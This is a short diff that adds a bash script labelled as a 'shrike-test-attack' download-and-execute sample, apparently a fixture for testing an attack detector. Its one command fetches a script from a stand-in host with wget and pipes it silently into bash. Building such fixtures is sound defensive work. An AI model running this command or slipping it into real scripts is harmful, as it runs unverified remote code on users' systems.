@@ -1,0 +1,3 @@
+#!/bin/bash
+# shrike-test-attack: download-exec: wget to stdout piped into bash
+wget -q -O- http://dl.example.org/x/setup | bash -s -- --silent
